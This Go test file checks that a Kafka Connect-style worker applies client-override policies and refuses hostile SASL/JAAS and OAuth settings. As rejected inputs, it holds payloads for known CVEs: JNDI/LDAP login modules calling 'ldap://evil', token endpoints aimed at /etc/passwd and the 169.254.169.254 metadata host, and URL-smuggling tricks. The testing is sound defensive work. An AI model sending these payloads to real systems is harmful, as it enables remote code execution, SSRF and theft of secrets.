package engine_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/twmb/franz-go/pkg/kgo"

	"github.com/millrace/millrace/batch"
	"github.com/millrace/millrace/batch/mem"
	"github.com/millrace/millrace/codec"
	"github.com/millrace/millrace/codec/header"
	"github.com/millrace/millrace/codec/primitive"
	"github.com/millrace/millrace/engine"
	"github.com/millrace/millrace/internal/kafka"
)

// overrideWorker is a worker whose config is settings; its clients may ask one token endpoint.
func overrideWorker(t *testing.T, settings ...string) *engine.Worker {
	t.Helper()
	set := sourceOf(&fakeConnector{})
	set.Converters = codec.NewSet(append(primitive.Classes(), header.Classes()...)...)
	w, err := engine.NewWorker(engine.Options{
		Config:  pairs(append([]string{"bootstrap.servers=127.0.0.1:9", "key.converter=StringConverter", "value.converter=StringConverter"}, settings...)...),
		Plugins: set, Pool: batch.NewPool(mem.Checked(t)),
		NewClient: func(props map[string]string, opts ...kgo.Opt) (*kgo.Client, error) {
			return kafka.Clients{OAuthURLs: []string{"https://id.example/token"}}.New(props, opts...)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

// TestOverrides_EachPolicyWithEachSetting compares with the classes of the original: which settings of a client
// a connector may change. Strict workers have the policy Allowlist, unless the worker names another.
func TestOverrides_EachPolicyWithEachSetting(t *testing.T) {
	const policy, allow = "connector.client.config.override.policy=", "connector.client.config.override.allowlist="
	settings := []string{"acks=1", "sasl.jaas.config=x", "sasl.mechanism=PLAIN", "security.protocol=PLAINTEXT", "bootstrap.servers=evil:9", "no.such.key=x", "ssl.keystore.location=/etc/passwd"}
	for _, c := range []struct {
		worker []string
		name   string // that the refusal names
		may    string // keys
	}{
		{nil, "", "acks sasl.jaas.config sasl.mechanism security.protocol bootstrap.servers no.such.key ssl.keystore.location"},
		{[]string{policy + "All"}, "", "acks sasl.jaas.config sasl.mechanism security.protocol bootstrap.servers no.such.key ssl.keystore.location"},
		{[]string{policy + "org.apache.kafka.connect.connector.policy.NoneConnectorClientConfigOverridePolicy"}, "None", ""},
		{[]string{policy + "PrincipalConnectorClientConfigOverridePolicy"}, "Principal", "sasl.jaas.config sasl.mechanism security.protocol"},
		{[]string{policy + "Allowlist"}, "Allowlist", ""},
		{[]string{policy + "Allowlist", allow + "acks, no.such.key"}, "Allowlist", "acks no.such.key"},
		{[]string{"millrace.rest.security=strict"}, "Allowlist", ""},
		{[]string{"millrace.rest.security=strict", allow + "acks"}, "Allowlist", "acks"},
		{[]string{"millrace.rest.security=strict", policy + "Principal"}, "Principal", "sasl.jaas.config sasl.mechanism security.protocol"},
		{[]string{"millrace.rest.security=compatible"}, "", "acks sasl.jaas.config sasl.mechanism security.protocol bootstrap.servers no.such.key ssl.keystore.location"},
	} {
		w := overrideWorker(t, c.worker...)
		for _, s := range settings {
			key, _, _ := strings.Cut(s, "=")
			v, err := w.Validate(t.Context(), source("topic=t", "producer.override."+s))
			if err != nil {
				t.Fatal(err)
			}
			want := "0 "
			if !strings.Contains(" "+c.may+" ", " "+key+" ") {
				want = fmt.Sprintf("1 producer.override.%s: The '%s' policy does not allow '%[1]s' to be overridden in the connector configuration.", key, c.name)
			}
			if have := complaints(v); have != want {
				t.Errorf("%q with %s: %s", c.worker, s, have)
			}
		}
	}
}

// TestValidate_LoginsThatRunCode sends what was sent to Java workers to have classes of theirs run, and files and
// hosts of theirs read: each is refused at its key, and nothing of it is done.
func TestValidate_LoginsThatRunCode(t *testing.T) {
	const (
		plain = "org.apache.kafka.common.security.plain.PlainLoginModule required username=u password=p;"
		oauth = `org.apache.kafka.common.security.oauthbearer.OAuthBearerLoginModule required clientId="i" clientSecret="CANARY";`
		url   = "sasl.oauthbearer.token.endpoint.url"
		none  = "0 "
	)
	on := func(more ...string) []string {
		return append([]string{"security.protocol=SASL_SSL", "ssl.keystore.location=/no/such/file"}, more...)
	}
	byToken := func(more ...string) []string {
		return on(append([]string{"sasl.mechanism=OAUTHBEARER", "sasl.jaas.config=" + oauth}, more...)...)
	}
	w := overrideWorker(t)
	for _, c := range []struct {
		name      string
		overrides []string
		want      string // a prefix; the prefix of overrides stands as $
	}{
		{"CVE-2023-25194", on("sasl.mechanism=PLAIN", `sasl.jaas.config=com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil:1389/CANARY" useFirstPass="true" group.provider.url="xxx";`),
			"1 $sasl.jaas.config: com.sun.security.auth.module.JndiLoginModule is not allowed."},
		{"with Kerberos, Java's default", on(`sasl.jaas.config=com.sun.security.auth.module.JndiLoginModule required debug=true;`),
			"1 $sasl.jaas.config: com.sun.security.auth.module.JndiLoginModule is not allowed."},
		{"CVE-2025-27818", on("sasl.mechanism=PLAIN", `sasl.jaas.config=com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://evil/CANARY";`),
			"1 $sasl.jaas.config: com.sun.security.auth.module.LdapLoginModule is not allowed."},
		{"another class", on("sasl.mechanism=PLAIN", `sasl.jaas.config=com.example.AnyLoginModule required;`), "1 $sasl.jaas.config: com.example.AnyLoginModule is not allowed."},
		{"a class behind a good one", on("sasl.mechanism=PLAIN", "sasl.jaas.config="+plain+" com.sun.security.auth.module.JndiLoginModule required;"),
			"1 $sasl.jaas.config: JAAS config property contains 2 login modules, should be 1 module"},
		{"a class in a comment's clothes", on("sasl.mechanism=PLAIN", "sasl.jaas.config=/* x */ com.sun.security.auth.module.JndiLoginModule/**/required;"),
			"1 $sasl.jaas.config: com.sun.security.auth.module.JndiLoginModule is not allowed."},
		{"no config at all", on("sasl.mechanism=PLAIN", "sasl.jaas.config= "), "1 $sasl.jaas.config: Login module not specified in JAAS config"},
		{"CVE-2025-27817, a file", byToken(url + "=file:///etc/passwd"), "1 $" + url + ": " + url + ": an http or https URL must stand here"},
		{"CVE-2025-27817, a host", byToken(url + "=http://169.254.169.254/latest/CANARY?x"), "1 $" + url + ": " + url + ": http://169.254.169.254/latest/CANARY?x is not allowed."},
		{"beside an allowed one", byToken(url + "=https://id.example/token/../CANARY"), "1 $" + url + ": " + url + ": https://id.example/token/../CANARY is not allowed."},
		{"by user information", byToken(url + "=https://id.example%2Ftoken@evil/"), "1 $" + url + ": " + url + ": https://id.example%2Ftoken@evil/ is not allowed."},
		{"a retriever of files", byToken(url+"=https://id.example/token", "sasl.oauthbearer.jwt.retriever.class=org.apache.kafka.common.security.oauthbearer.FileJwtRetriever"),
			"1 $sasl.oauthbearer.jwt.retriever.class: sasl.oauthbearer.jwt.retriever.class: org.apache.kafka.common.security.oauthbearer.FileJwtRetriever is not known"},
		{"a class that gets the password", on("sasl.mechanism=PLAIN", "sasl.jaas.config="+plain, "sasl.client.callback.handler.class=com.example.H"),
			"1 $sasl.client.callback.handler.class: sasl.client.callback.handler.class: Java classes cannot be loaded here"},
		{"what may be", on("sasl.mechanism=PLAIN", "sasl.jaas.config="+plain), none},
		{"the allowed endpoint", byToken(url + "=https://id.example/token"), none},
		{"of no effect, as in Java", []string{"sasl.mechanism=PLAIN", "sasl.jaas.config=com.example.AnyLoginModule required;"}, none},
		{"what a provider may still replace", on("sasl.mechanism=PLAIN", "sasl.jaas.config=${vault:a:b}"), none},
	} {
		for _, prefix := range []string{"producer.override.", "admin.override."} {
			more := []string{"topic=t", "topic.creation.default.replication.factor=1", "topic.creation.default.partitions=1"}
			for _, o := range c.overrides {
				more = append(more, prefix+o)
			}
			v, err := w.Validate(t.Context(), source(more...))
			if err != nil {
				t.Fatal(err)
			}
			if have := complaints(v); !strings.HasPrefix(have, strings.Replace(c.want, "$", prefix, 1)) || c.want == none && have != none {
				t.Errorf("%s: %s", c.name, have)
			}
			for i := range v.Configs {
				if text, _ := v.Configs[i].Value.Text(); strings.Contains(text, "LoginModule required") {
					t.Errorf("%s: the answer shows %s", c.name, text)
				}
			}
		}
	}
}
